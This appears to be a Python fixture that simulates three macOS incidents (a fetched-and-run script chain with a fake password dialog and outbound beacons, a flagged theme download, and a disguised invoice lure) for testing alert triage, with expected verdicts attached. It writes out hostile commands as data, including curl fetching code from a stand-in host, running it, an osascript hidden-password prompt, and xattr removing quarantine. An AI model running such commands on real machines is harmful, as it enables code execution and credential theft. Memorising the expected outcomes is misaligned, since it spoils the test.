"""Two Macs: a script chain in which exec keeps the pid, a fetched page, and a file without a hash.

Three alerts: the chain by a process whose creation time the alert cuts to milliseconds (T1059.002,
T1105), a download by its URL alone, and a file by its name alone, in Chinese, Arabic and emoji.
"""

from local.incidents.case import (
    Case,
    Expectation,
    file_evidence,
    process_evidence,
    url_evidence,
    user_evidence,
)
from local.incidents.clock import cut
from local.incidents.estate import DESIGNER
from local.incidents.programs import program
from local.incidents.stage import Stage, attacker, clock, later
from local.incidents.world import Account, File, Process

_INCIDENT = 1045
_HOST = "updates.fabrikam-cdn.example"
_THEMES = "cdn.tailspin-themes.example"
_URL = f"https://{_THEMES}/assets/theme.zip"
_LURE = '发票_فاتورة_🦊 "2026" | union *.command'


def tell(stage: Stage) -> None:
    """Records the three happenings on the two Macs; raises three alerts."""
    _script_chain(stage)
    _fetch(stage)
    _lure(stage)


def _shell(stage: Stage, short: str, born: int) -> Process:
    """A terminal window: Terminal, login, and the user's zsh."""
    record, terminal = stage.recorder, stage.estate.resident(short, "Terminal")
    who: Account = terminal.device.users[0]
    root = stage.estate.resident(short, "launchd").account
    login = record.start(
        terminal,
        program("macos", "login"),
        f"login -pf {who.name}",
        at=born,
        account=root,
        life=2 * 3_600 * 10**7,
    )
    return record.start(
        login,
        program("macos", "zsh"),
        "-zsh",
        at=later(born, 0.1170093),
        account=who,
        life=2 * 3_600 * 10**7,
    )


def _script_chain(stage: Stage) -> None:
    record, born = stage.recorder, clock("06:48:44.594155")
    zsh = _shell(stage, "mac-design-02", clock("06:47:58.2210448"))
    script = record.start(zsh, program("macos", "zsh"), "-zsh", at=born, life=12 * 60 * 10**7)
    record.exec(script, program("macos", "sh"), "sh ./install_fonts.sh", at=later(born, 0.0024), digits=2)
    fetch = record.start(
        script,
        program("macos", "curl"),
        f"curl -fsSL https://{_HOST}/f.py -o /tmp/f.py",
        at=later(born, 0.4417903),
    )
    record.network(fetch, later(born, 0.9), ip="198.51.100.140", url=f"https://{_HOST}/f.py")
    fetched = stage.drop(attacker("f.py", "/private/tmp"))
    record.file(fetch, later(born, 1.3), "FileCreated", fetched)
    record.exec(script, program("macos", "bash"), "bash -c stage2", at=later(born, 1.8), digits=2)
    ask = record.start(
        script,
        program("macos", "osascript"),
        "osascript -e 'display dialog \"Password\" with hidden answer'",
        at=later(born, 2.2100931),
    )
    record.event("DeviceEvents", ask, later(born, 2.9), "ScriptContent", {"AdditionalFields": "{}"})
    record.exec(
        script, program("macos", "python3"), "python3 /private/tmp/f.py", at=later(born, 14.0), digits=2
    )
    helper = stage.drop(attacker("fontd", "/private/tmp"))
    record.network(script, later(born, 15.2), ip="198.51.100.141", port=8_080)
    record.file(script, later(born, 16.4), "FileCreated", helper)
    run = record.start(script, helper, f"{helper.path} -d", at=later(born, 17.1180022), life=8 * 60 * 10**7)
    for count in range(7):
        record.network(run, later(born, 18.2 + count * 60.4), ip="198.51.100.141", port=8_080)
    _alert_on_chain(stage, script, born)


def _alert_on_chain(stage: Stage, script: Process, born: int) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious script with hidden password prompt",
            description="A script fetched another one, asked for a password and kept an outside connection.",
            severity="High",
            category="Execution",
            device=script.device,
            first=born,
            last=later(born, 14.1),
            created=later(born, 133.5500182),
            evidence=(process_evidence(script, created=cut(born, 3)), user_evidence(DESIGNER)),
            expected=Expectation(
                "ProcessWithinTolerance",
                "Confirmed",
                "A fetched program ran and went on calling out after the alert.",
                anchors=(script,),
                techniques=("T1105",),
            ),
            incident=_INCIDENT,
            techniques=("T1059.004", "T1056.002"),
            user=DESIGNER,
        )
    )


def _fetch(stage: Stage) -> None:
    record, born = stage.recorder, clock("07:30:05.8840021")
    zsh = _shell(stage, "mac-design-02", clock("07:29:30.1"))
    curl = record.start(zsh, program("macos", "curl"), f"curl -LO {_URL}", at=born)
    tag = ("theme url",)
    record.network(curl, later(born, 0.6), ip="198.51.100.142", url=_URL, about=tag)
    record.network(curl, later(born, 1.1), ip="198.51.100.143", url=_THEMES, about=tag)
    record.file(curl, later(born, 2.2), "FileCreated", File("theme.zip", f"/Users/{DESIGNER.name}"))
    told, record.story = record.story, ""  # a host that only begins alike, asked by somebody else's tool
    update = record.start(
        stage.estate.resident("mac-design-02", "launchd"),
        program("macos", "softwareupdated"),
        program("macos", "softwareupdated").path,
        at=clock("07:29:52.0417"),
    )
    record.network(
        update, clock("07:29:53.1"), ip="192.0.2.81", url=f"https://{_THEMES}.contoso.example/list"
    )
    record.story = told
    stage.raise_alert(
        Case(
            title="Connection to a website with bad reputation",
            description="A program on the device asked for a URL that is known for malware.",
            severity="Low",
            category="SuspiciousActivity",
            device=curl.device,
            first=later(born, 0.6),
            last=later(born, 1.1),
            created=clock("07:32:40.3310007"),
            evidence=(url_evidence(_URL),),
            expected=Expectation(
                "Url",
                "Unproven",
                "An archive was fetched and not opened.",
                about=tag[0],
            ),
            incident=1046,
            source="CustomerTI",
        )
    )


def _lure(stage: Stage) -> None:
    record, born = stage.recorder, clock("08:40:21.3057719")
    zsh = _shell(stage, "mac-exec-01", clock("08:39:50.5"))
    folder = f"/Users/{zsh.account.name}/Downloads"
    lure = File(_LURE, folder, hashed=False)
    tag = ("lure",)
    unzip = record.start(zsh, program("macos", "unzip"), "unzip -q ~/Downloads/a.zip", at=born)
    record.file(unzip, later(born, 0.3), "FileCreated", lure, about=tag)
    strip = record.start(
        zsh,
        program("macos", "xattr"),
        f"xattr -d com.apple.quarantine '{lure.path}'",
        at=later(born, 9.6),
    )
    record.file(strip, later(born, 9.7), "FileModified", lure, about=tag)
    told, record.story = record.story, ""  # the same name in the trash, by the Finder's helper
    mover = record.start(
        stage.estate.resident("mac-exec-01", "launchd"),
        program("macos", "xpcproxy"),
        "xpcproxy com.apple.DesktopServicesHelper",
        at=clock("08:41:30.2"),
    )
    other = File(_LURE, f"/Users/{zsh.account.name}/.Trash", hashed=False)
    record.file(mover, clock("08:41:31.1"), "FileCreated", other)
    record.story = told
    _alert_on_lure(stage, zsh, born, lure, tag)


def _alert_on_lure(stage: Stage, zsh: Process, born: int, lure: File, tag: tuple[str]) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious file with a misleading name",
            description='A file was named to look like an invoice: 发票_فاتورة_🦊 "2026".',
            severity="Low",
            category="InitialAccess",
            device=zsh.device,
            first=later(born, 0.3),
            last=later(born, 9.7),
            created=clock("08:42:58.0071"),
            evidence=(file_evidence(lure),),
            expected=Expectation(
                "FileName",
                "Unproven",
                "The file was unpacked and freed from quarantine; nothing opened it.",
                about=tag[0],
            ),
            incident=1047,
            techniques=("T1036.005",),
        )
    )
